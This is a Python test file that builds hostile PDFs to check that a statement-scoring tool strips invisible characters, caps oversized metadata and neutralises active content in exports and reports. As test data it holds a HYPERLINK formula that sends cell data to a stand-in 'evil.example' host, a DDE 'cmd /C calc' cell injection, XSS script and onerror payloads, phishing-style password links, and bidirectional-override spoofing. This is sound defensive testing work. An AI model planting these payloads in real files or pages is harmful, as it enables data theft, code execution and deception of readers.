"""Hostile PDFs, built here byte by byte: whatever their text and metadata say, nothing invisible,
live or oversized reaches sentences, evidence, the store, exports or reports (issue 9)."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
import sqlite3
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from conftest import ROOT, sample_source
from disclosure_check.cli import main
from disclosure_check.present.export import (
    ResultsWriter,
    flat_columns,
    result_to_dict,
    spreadsheet_safe,
    write_results,
)
from disclosure_check.present.report import report_sections, to_html, to_markdown, write_report
from disclosure_check.read.extract import pdf_to_document
from disclosure_check.read.segment import MAX_CHARS, document_to_sentences
from disclosure_check.sanitize import METADATA_MAX_CHARS, PARAGRAPH_MAX_CHARS
from disclosure_check.store.store import Store
from disclosure_check.types import Assessment
from pdf_builder import build_pdf, stream

MODEL = str(ROOT / "models" / "default")
# What must never be stored or shown: C0/C1 controls but tab and newline, bidirectional controls,
# zero-width and other invisible format characters.
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
FORMULA_START = ("=", "+", "-", "@")


# --- PDFs whose text layer says exactly what a test wants --------------------------------------

def _literal(data: bytes) -> bytes:
    return b"(" + data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r") + b")"


def _text_string(value: str) -> bytes:
    if all(" " <= ch <= "~" for ch in value):
        return _literal(value.encode("ascii"))
    return b"<FEFF" + value.encode("utf-16-be").hex().upper().encode() + b">"


def raw_pdf(pages: list[list[str]], info: dict[str, str] | None = None, *, size: float = 10.0,
            leading: float | None = None, width: int = 595, height: int = 842, top: float = 780,
            left: float = 60, font_name: str = "Helvetica") -> bytes:
    """A PDF whose pages show ``pages`` (lines of any Unicode, control characters included):
    Helvetica (or another standard font), with a ToUnicode map giving each character outside printable ASCII its own code, so
    a text extractor reads back exactly these characters. ``info`` is the /Info dictionary."""
    leading = leading or size * 1.3
    extra = sorted({ch for lines in pages for line in lines for ch in line if not " " <= ch <= "~"})
    assert len(extra) <= 128
    code = {ch: bytes([0x80 + i]) for i, ch in enumerate(extra)}
    cmap = ["/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Hostile def /CMapType 2 def",
            "1 begincodespacerange <00> <FF> endcodespacerange", "1 beginbfrange <20> <7E> <0020> endbfrange"]
    if extra:
        cmap += [f"{len(extra)} beginbfchar"]
        cmap += [f"<{code[ch].hex()}> <{ch.encode('utf-16-be').hex()}>" for ch in extra] + ["endbfchar"]
    cmap.append("endcmap CMapName currentdict /CMap defineresource pop end end")
    objects: list[bytes] = [b"", b""]  # catalog, page tree

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    # Control and format characters take no room, as in a PDF that hides them in a word.
    from reportlab.pdfbase.pdfmetrics import stringWidth

    widths = [round(stringWidth(chr(c), font_name, 1000)) for c in range(32, 128)]
    widths += [0 if INVISIBLE.match(ch) else 556 for ch in extra]
    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /%s /Encoding /WinAnsiEncoding /ToUnicode %d 0 R "
               b"/FirstChar 32 /LastChar %d /Widths [%s] >>" % (font_name.encode(), add(stream("\n".join(cmap).encode())),
                                                                31 + len(widths), " ".join(map(str, widths)).encode()))
    kids = []
    for lines in pages:
        ops = [b"BT /F1 %g Tf %g TL %g %g Td" % (size, leading, left, top)]
        ops += [_literal(b"".join(code.get(ch) or ch.encode("ascii") for ch in line)) + b" Tj T*" for line in lines]
        content = add(stream(b"\n".join(ops + [b"ET"])))
        kids.append(add(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources << /Font << /F1 %d 0 R >> >> "
                        b"/Contents %d 0 R >>" % (width, height, font, content)))
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % k for k in kids), len(kids))
    info_ref = add(b"<< " + b" ".join(b"/" + k.encode() + b" " + _text_string(v) for k, v in info.items()) + b" >>") \
        if info else None
    return build_pdf(objects, info=info_ref, header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")


def statement_pdf(path: Path, paragraphs: list[str], info: dict[str, str] | None = None) -> Path:
    """``paragraphs`` set as a statement is: wrapped lines, a blank line between paragraphs, A4 pages."""
    lines: list[str] = []
    for paragraph in paragraphs:
        lines += textwrap.wrap(paragraph, 92) + [""]
    pages = [lines[i:i + 55] for i in range(0, len(lines), 55)]
    path.write_bytes(raw_pdf(pages, info))
    return path


def lv_paragraphs() -> list[str]:
    """A real statement's text (LV= 2018), paragraph by paragraph."""
    return [b["text"] for b in sample_source("lv_2018")["blocks"]]


def _with(paragraphs: list[str], needle: str, replacement: str) -> list[str]:
    assert any(needle in p for p in paragraphs), needle
    return [p.replace(needle, replacement) for p in paragraphs]


# --- control, NUL and bidirectional characters -------------------------------------------------

@pytest.fixture(scope="module")
def control_pdf(tmp_path_factory) -> Path:
    paragraphs = lv_paragraphs()
    # Inside words, between words and around a quote: NUL, BEL, ESC, C1 controls, the right-to-left
    # override that makes "approved" read backwards on screen, marks, isolates and zero-width joiners.
    paragraphs = _with(paragraphs, "approved by the Board", "appr\u202eoved\u202c by\x00 the\x07 Bo\u200dard")
    paragraphs = _with(paragraphs, "modern slavery", "modern\x1b slav\u2066ery\u2069")
    paragraphs = _with(paragraphs, "supply chain", "sup\u200fply\x85 ch\ufeffain\u061c")
    info = {"Title": "LV=\x00 Modern \u202eSlavery\u202c Statement\x07 2018", "Author": "Liverpool\u202e Victoria\x1b"}
    return statement_pdf(tmp_path_factory.mktemp("control") / "lv_controls.pdf", paragraphs, info)


def test_control_characters_never_reach_sentences_evidence_the_store_or_exports(control_pdf, scorer, tmp_path):
    doc = pdf_to_document(control_pdf)
    sentences = document_to_sentences(doc)
    assert sentences and not [s.text for s in sentences if INVISIBLE.search(s.text)]
    # The characters went, the words they were hidden in did not.
    assert any("approved by the Board" in s.text for s in sentences)
    assert any("modern slavery" in s.text for s in sentences)
    assert doc.metadata.title == "LV= Modern Slavery Statement 2018"
    assert doc.metadata.author == "Liverpool Victoria"

    result = scorer.score_file(control_pdf)
    assert isinstance(result, Assessment)
    item = result_to_dict(result)
    approval = item["elements"]["approval"]
    assert approval["present"] and any("approved by the Board" in e["text"] for e in approval["evidence"])
    assert not INVISIBLE.search(json.dumps(item, ensure_ascii=False))

    db = tmp_path / "results.db"
    with Store(db) as store:
        store.save(result)
    with sqlite3.connect(db) as conn:
        dump = "\n".join(conn.iterdump())
    assert "approved by the Board" in dump and not INVISIBLE.search(dump)

    for suffix in (".json", ".csv", ".parquet"):
        out = tmp_path / f"export{suffix}"
        result_cli = CliRunner().invoke(main, ["export", "--db", str(db), "--out", str(out)])
        assert result_cli.exit_code == 0, result_cli.output
        text = out.read_text(encoding="utf-8") if suffix != ".parquet" else pd.read_parquet(out).to_csv()
        assert "Liverpool Victoria" in text and not INVISIBLE.search(text)


# --- metadata: sizes and formulas --------------------------------------------------------------

@pytest.mark.slow
def test_a_10_mb_title_is_capped_everywhere_it_is_copied(tmp_path, scorer):
    pdf = statement_pdf(tmp_path / "huge_title.pdf", lv_paragraphs(),
                        {"Title": "Modern Slavery Statement " * 400_000, "Author": "LV " + "x" * 1_000_000})
    assert pdf.stat().st_size > 10_000_000
    result = scorer.score_file(pdf)
    assert isinstance(result, Assessment)
    assert result.metadata.title.startswith("Modern Slavery Statement")
    assert len(result.metadata.title) <= METADATA_MAX_CHARS and len(result.metadata.author) <= METADATA_MAX_CHARS
    db = tmp_path / "r.db"
    with Store(db) as store:
        store.save(result)
    assert db.stat().st_size < 1_000_000
    out = tmp_path / "all.json"
    assert CliRunner().invoke(main, ["export", "--db", str(db), "--out", str(out)]).exit_code == 0
    assert out.stat().st_size < 1_000_000


HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click to update your staff password")'


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory, scorer) -> Path:
    folder = tmp_path_factory.mktemp("formula")
    pdf = statement_pdf(folder / "lv_2018.pdf", lv_paragraphs(), {"Title": HYPERLINK, "Author": HYPERLINK})
    db = folder / "results.db"
    with Store(db) as store:
        result = scorer.score_file(pdf)
        # The organisation now comes from the text, which cannot start a name with "="; the file's Title and
        # Author still carry the formula, and a hostile organisation value is forced here so that the
        # column's neutralisation stays tested whatever source fills it.
        store.save(dataclasses.replace(result, identity=dataclasses.replace(result.identity, organisation=HYPERLINK)))
    return db


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_formula_metadata_is_neutralised_in_csv_exports(formula_db, tmp_path):
    with Store(formula_db) as store:
        items = store.reviewed_results()
    assert items[0]["organisation"] == HYPERLINK  # stored as the PDF says: a data value, not a formula
    for how in ("cli", "write_results", "writer"):
        out = tmp_path / f"{how}.csv"
        if how == "cli":
            assert CliRunner().invoke(main, ["export", "--db", str(formula_db), "--out", str(out)]).exit_code == 0
        elif how == "write_results":
            write_results(items, out)
        else:
            with ResultsWriter(out, flat_columns(reviewed=True)) as writer:
                writer.write(items[0])
        cells = _cells(out)
        assert not [c for c in cells if c.startswith(FORMULA_START)], how
        assert "'" + HYPERLINK in cells  # shown as text, whole
    # A data format keeps the value as it is.
    out = tmp_path / "data.json"
    write_results(items, out)
    assert json.loads(out.read_text())[0]["organisation"] == HYPERLINK


def test_the_dashboards_excel_and_csv_downloads_hold_no_formula(formula_db, tmp_path):
    import openpyxl

    with Store(formula_db) as store:
        frame = pd.DataFrame(store.reviewed_results())[["organisation", "document", "status", "pages", "overall"]]
    frame.loc[1] = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1", -5, 2]
    unsafe = tmp_path / "unsafe.xlsx"
    frame.to_excel(unsafe, index=False)
    assert any(c.data_type == "f" for row in openpyxl.load_workbook(unsafe).active.iter_rows() for c in row)  # the attack

    safe = spreadsheet_safe(frame)
    path = tmp_path / "safe.xlsx"
    safe.to_excel(path, index=False)
    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith(FORMULA_START)
                and not isinstance(c.value, int | float)]
    assert "'" + HYPERLINK in [c.value for c in cells]
    assert -5 in [c.value for c in cells]  # numbers stay numbers
    csv_path = tmp_path / "safe.csv"
    csv_path.write_text(safe.to_csv(index=False))
    assert not [c for c in _cells(csv_path) if c.startswith(FORMULA_START) and c != "-5"]
    assert frame.loc[0, "organisation"] == HYPERLINK  # the dashboard's own frame is untouched


# --- a paragraph of more than a million characters ---------------------------------------------

@pytest.mark.slow
def test_a_million_character_paragraph_is_scored_in_bounded_sentences(tmp_path, scorer):
    # Real sentences run on without a break: the same 2,200 characters of a statement (starting
    # inside a sentence) on each of 480 lines, set small on a large page: one paragraph.
    text = " ".join(p for p in lv_paragraphs() if len(p) > 200)
    start = text.index(" the ") + 1
    pdf = tmp_path / "endless.pdf"
    pdf.write_bytes(raw_pdf([[text[start:start + 2200]] * 480], size=1.6, leading=1.9, width=2000, height=1000,
                            top=990, left=10))
    doc = pdf_to_document(pdf)
    assert max(len(run) for run in doc.text.split("\n\n")) > 1_000_000  # it really is one paragraph
    assert max(len(b.text) for b in doc.blocks) <= PARAGRAPH_MAX_CHARS
    sentences = document_to_sentences(doc)
    assert len(sentences) > 3000 and max(len(s.text) for s in sentences) <= MAX_CHARS
    assert all(doc.text[s.start:s.end] == s.text for s in sentences[::97])
    assert all(s.boxes for s in sentences[::97])  # still highlightable
    result = scorer.score_document(doc)
    assert result.sentences == len(sentences)
    assert {"structure", "operations"} <= {e.element for e in result.elements if e.present}  # it was read


# --- Markdown, HTML and links in quotes --------------------------------------------------------

LURES = ("<script>alert(1)</script>", "![x](http://evil/x.png)", "[re-enter your staff password](http://evil)",
         "<img src=x onerror=alert(2)>", "<http://evil/autolink>")


@pytest.fixture(scope="module")
def lure_item(tmp_path_factory, scorer) -> dict:
    paragraphs = _with(lv_paragraphs(), "This statement was approved by the Board",
                       f"This statement {LURES[0]} was approved by the Board")
    paragraphs = _with(paragraphs, "have the knowledge and understanding", f"have the knowledge {LURES[2]} and understanding")
    paragraphs = _with(paragraphs, "For the year ended 31 December 2018",
                       f"For the year ended 31 December 2018 {LURES[1]} {LURES[3]} {LURES[4]}")
    folder = tmp_path_factory.mktemp("lures")
    pdf = statement_pdf(folder / "<img src=x onerror=alert(3)>.pdf", paragraphs,
                        {"Title": "<script>alert(4)</script>", "Author": "[click](http://evil)"})
    result = scorer.score_file(pdf)
    assert isinstance(result, Assessment)
    return result_to_dict(result)


def every_quote_a_lure(item: dict) -> dict:
    """``item`` as a store could hold it: every quote one of the lures."""
    item = json.loads(json.dumps(item))
    quotes = [e for entry in item["elements"].values() for e in entry["evidence"]]
    quotes += [e for c in item["criteria"] for e in c["evidence"]]
    quotes += [e for check in item["statutory"]["checks"] for e in check["evidence"]]
    for n, quote in enumerate(quotes):
        quote["text"] = LURES[n % len(LURES)]
    return item


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data) -> None:
        self.text.append(data)


def _source_urls(rubric) -> set[str]:
    """The only addresses a report may link to: the rubric's own sources."""
    return {source.url for source in rubric.sources.values() if source.url}


def _rendered_markdown(item: dict, rubric) -> tuple[set[str], str]:
    from markdown_it import MarkdownIt

    markdown = to_markdown(report_sections(item, rubric))
    rendered = _Tags(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    hrefs = {value for tag, attrs in rendered.tags if tag == "a" for name, value in attrs if name == "href"}
    assert hrefs and hrefs <= _source_urls(rubric), hrefs - _source_urls(rubric)
    assert not [attrs for tag, attrs in rendered.tags if tag == "a" and {n for n, _ in attrs} != {"href"}]
    return {tag for tag, _ in rendered.tags} - {"a"}, " ".join("".join(rendered.text).split())


def test_the_markdown_report_renders_no_tag_link_or_image(lure_item, rubric):
    """No tag, image or link from the document: links go only to the rubric's sources."""
    tags, shown = _rendered_markdown(lure_item, rubric)
    assert tags <= {"h1", "h2", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "p"}, tags
    # The lures are in the report, as the text they are (that is the evidence), not as what they ask for.
    for lure in ("<script>alert(1)</script>", "[re-enter your staff password](http://evil)", "onerror=alert(3)"):
        assert lure in shown.replace("\u200b", ""), lure  # (a zero-width space stops URL autolinking)

    tags, shown = _rendered_markdown(every_quote_a_lure(lure_item), rubric)
    assert tags <= {"h1", "h2", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "p"}, tags
    assert all(lure in shown.replace("\u200b", "") for lure in LURES)


def test_the_html_report_is_inert(lure_item, rubric, tmp_path):
    path = write_report(every_quote_a_lure(lure_item), rubric, tmp_path / "r.html", "html")
    page = _Tags(path.read_text())
    tags = {tag for tag, _ in page.tags}
    assert tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "ul", "li", "table", "thead",
                    "tbody", "tr", "th", "td", "a"}, tags
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") or name == "src" for name, _ in attrs)]
    hrefs = [(tag, value) for tag, attrs in page.tags for name, value in attrs if name == "href"]
    assert hrefs and {tag for tag, _ in hrefs} == {"a"} and {url for _, url in hrefs} <= _source_urls(rubric)
    shown = " ".join("".join(page.text).split())
    assert all(lure in shown for lure in LURES)
    assert "<script>alert(1)</script>" in " ".join(_Tags(to_html(report_sections(lure_item, rubric))).text)


@pytest.mark.slow
def test_the_pdf_report_shows_the_lures_as_text_linking_only_sources(lure_item, rubric, tmp_path):
    import pdfplumber

    path = write_report(every_quote_a_lure(lure_item), rubric, tmp_path / "r.pdf", "pdf")
    with pdfplumber.open(path) as pdf:
        text = " ".join("".join(page.extract_text() or "" for page in pdf.pages).split())
        links = [link for page in pdf.pages for link in page.hyperlinks]
    assert "<script>alert(1)</script>" in text and "[re-enter your staff password](http://evil)" in text
    assert "onerror=alert(3)" in text  # the file name
    assert links and {link["uri"] for link in links} <= _source_urls(rubric)  # the rubric's sources only
